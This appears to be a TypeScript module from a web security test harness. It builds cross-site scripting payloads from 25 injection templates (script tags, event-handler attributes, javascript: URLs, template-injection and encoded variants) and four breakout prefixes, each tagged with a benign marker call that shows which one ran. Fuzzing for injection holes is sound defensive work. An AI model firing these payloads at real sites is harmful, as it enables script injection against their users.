import { MARKER } from './browser.ts';
import { inTurns } from './figures.ts';

/** Each runs its mark where a text is taken for markup, in a script, an attribute or an address. */
const SCRIPTS: ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload=${run}//`,
  (run) => `<body onload=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<video src=x onerror=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  (run) => `<iframe src=javascript:${run}>`,
  (run) => `<a href=javascript:${run}>x</a>`,
  (run) => `<form action=javascript:${run}><button>x`,
  (run) => `<math href=javascript:${run}>x`,
  (run) => `<object data=javascript:${run}>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<marquee onstart=${run}>`,
  (run) => `<IMG SRC=x ONERROR=${run}>`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `javascript:${run}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `%3Cimg src=x onerror=${run}%3E`,
  (run) => `\\u003cscript\\u003e${run}`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
];
const BREAKOUTS = ['', '">', `'>`, '</script></textarea></title>'];

/** So many there are. */
export const PAYLOADS = SCRIPTS.length * BREAKOUTS.length;

/**
 * One of them, with a mark that tells which.
 * @param field a short name
 * @param index below PAYLOADS
 */
export function payload(field: string, index: number): string {
  const breakout = BREAKOUTS[Math.floor(index / SCRIPTS.length)] ?? '';
  return breakout + inTurns(SCRIPTS, index)(`${MARKER}(/${field}${index}./)`);
}
